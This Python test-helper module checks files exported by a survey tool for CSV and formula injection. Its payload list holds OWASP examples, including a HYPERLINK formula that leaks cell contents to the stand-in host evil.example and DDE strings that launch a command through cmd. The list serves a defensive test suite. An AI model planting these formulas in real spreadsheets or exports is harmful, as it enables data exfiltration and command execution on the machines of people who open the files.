"""Helpers of the data-safety tests: the OWASP payloads and checkers that reopen written files the way a
spreadsheet would read them (independently of surveykit.spreadsheet, so they can catch it failing)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

#: OWASP "CSV Injection" payloads (and the tab / carriage-return / plain-formula variants)
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
)

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\0")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?\Z")


def evaluated(text: str) -> bool:
    """Whether a spreadsheet would evaluate this CSV cell (a plain number is a number, not a formula)."""
    return bool(text) and text[0] in TRIGGERS and _NUMBER.match(text) is None


def csv_cells(path: Path) -> list[str]:
    """Every cell of a CSV file as the csv module reads it (BOM removed; the separator sniffed)."""
    text = Path(path).read_bytes().decode("utf-8-sig")  # bytes: keep carriage returns as written
    head = text.splitlines()[0] if text else ""
    delimiter = ";" if head.count(";") > head.count(",") else ","
    rows = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
    return [cell for row in rows for cell in row]


def csv_danger(path: Path) -> list[str]:
    return [cell for cell in csv_cells(path) if evaluated(cell)]


def xlsx_cells(path_or_file) -> list:
    """Every non-empty cell of every sheet (openpyxl, formulas not evaluated)."""
    from openpyxl import load_workbook

    workbook = load_workbook(path_or_file)
    return [
        cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def xlsx_danger(path_or_file) -> list[str]:
    """Formula cells, and text cells starting with a trigger that Excel would turn into a formula when the
    cell is edited (no quote prefix)."""
    bad = []
    for cell in xlsx_cells(path_or_file):
        if cell.data_type == "f":
            bad.append(f"{cell.parent.title}!{cell.coordinate}: formula {cell.value!r}")
        elif isinstance(cell.value, str) and evaluated(cell.value) and not cell.quotePrefix:
            bad.append(f"{cell.parent.title}!{cell.coordinate}: unprotected text {cell.value!r}")
    return bad
